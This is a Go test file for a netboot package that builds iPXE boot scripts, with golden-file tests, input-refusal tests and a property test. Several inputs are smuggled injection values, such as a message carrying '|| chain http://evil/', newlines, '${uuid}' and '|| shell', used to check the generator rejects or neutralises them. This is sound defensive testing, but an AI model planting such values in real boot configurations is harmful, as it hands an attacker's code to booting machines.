package netboot

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"bareroot/internal/bootset"
	"bareroot/internal/serve/order"
)

var update = flag.Bool("update", false, "write the golden files")

func testSet() *bootset.Manifest {
	seg := func(kind, file string) bootset.Segment {
		return bootset.Segment{Kind: kind, Blob: bootset.Blob{File: file}}
	}
	return &bootset.Manifest{ID: strings.Repeat("0123456789abcdef", 4), Kver: "6.1.0-56-amd64", Kernel: bootset.Blob{File: "vmlinuz"},
		Segments: []bootset.Segment{seg("userland", "10-userland.cpio.zst"), seg("modules", "20-modules.cpio"), seg("agent", "40-agent.cpio.zst")}}
}

func boot(cmdline string) order.Decision {
	return order.Decision{Action: order.ActBoot, Attempt: "3rTkPq-2_xYzABCDEFGHIJ", Set: testSet(), Cmdline: cmdline}
}

func TestScriptGolden(t *testing.T) {
	const base = "http://10.77.0.1:8080"
	bios, uefi := order.BootRequest{Platform: "bios"}, order.BootRequest{Platform: "uefi"}
	cases := map[string]func() (string, error){
		"first": func() (string, error) { return firstScript(base), nil },
		"boot": func() (string, error) {
			return Script(base, bios, boot("console=ttyS0 bareroot.x=a;b root=live:http://10.77.0.1/x"))
		},
		"boot-uefi": func() (string, error) { return Script(base, uefi, boot("console=ttyS0")) },
		"disk-bios": func() (string, error) { return Script(base, bios, order.Decision{Action: order.ActDisk}) },
		"disk-uefi": func() (string, error) {
			return Script(base, uefi, order.Decision{Action: order.ActDisk, Message: "deployed"})
		},
		"park": func() (string, error) {
			return Script(base, bios, order.Decision{Action: order.ActPark, Message: "parked: 5 boots in 10 minutes"})
		},
		"park-hostile": func() (string, error) {
			return Script(base, bios, order.Decision{Action: order.ActPark, Message: "a\nshell\n || chain http://evil/ && ${uuid} ; #x \x1b[2J $${{}} ü"})
		},
	}
	for name, f := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := f()
			if err != nil {
				t.Fatal(err)
			}
			file := filepath.Join("testdata", "scripts", name+".ipxe")
			if *update {
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(string(want), got); d != "" {
				t.Errorf("-want +got:\n%s", d)
			}
		})
	}
}

func TestScriptRefuses(t *testing.T) {
	badFile := boot("")
	badFile.Set.Segments[0].File = "a b"
	trick := boot("")
	trick.Set.Kernel.File = "${uuid}"
	noSet := boot("")
	noSet.Set = nil
	badID := boot("")
	badID.Set.ID = "../x"
	badAttempt := boot("")
	badAttempt.Attempt = "a b || shell"
	cases := map[string]struct {
		d    order.Decision
		want string
	}{
		"newline":         {boot("a\nshell"), "control character"},
		"carriage return": {boot("a\rshell"), "control character"},
		"setting":         {boot("a=${uuid}"), "iPXE replaces"},
		"or":              {boot("quiet || shell"), `the word "||"`},
		"and":             {boot("quiet && shell"), `the word "&&"`},
		"semicolon":       {boot("quiet ; shell"), `the word ";"`},
		"comment":         {boot("quiet #5"), `the word "#5"`},
		"long":            {boot(strings.Repeat("word ", 500)), "the kernel keeps 2047"},
		"file name":       {badFile, `a file "a b"`},
		"kernel name":     {trick, "iPXE takes letters"},
		"no set":          {noSet, "names no boot set"},
		"set id":          {badID, "names no boot set"},
		"attempt":         {badAttempt, "attempt id"},
		"action":          {order.Decision{Action: "dance"}, "unknown action"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := Script("http://h", order.BootRequest{}, tc.d)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %q, %v; want an error with %q", got, err, tc.want)
			}
		})
	}
}

// Whatever text a message has, the script keeps its lines and iPXE reads no
// command out of it.
func TestSpeakIsInert(t *testing.T) {
	plain := strings.Count(parkScript("http://h", "x"), "\n")
	rapid.Check(t, func(t *rapid.T) {
		msg := rapid.StringOf(rapid.SampledFrom([]rune("ab |&;#${}\n\r\t\x00\x1b/:ü"))).Draw(t, "message")
		s := parkScript("http://h", msg)
		if strings.Count(s, "\n") != plain {
			t.Fatalf("more lines: %q", s)
		}
		said := speak(msg)
		if strings.ContainsAny(said, "${}\n\r\t\x00\x1b") {
			t.Fatalf("left in: %q", said)
		}
		for _, w := range strings.Fields(said) {
			if reserved(w) {
				t.Fatalf("word %q left in %q", w, said)
			}
		}
	})
}
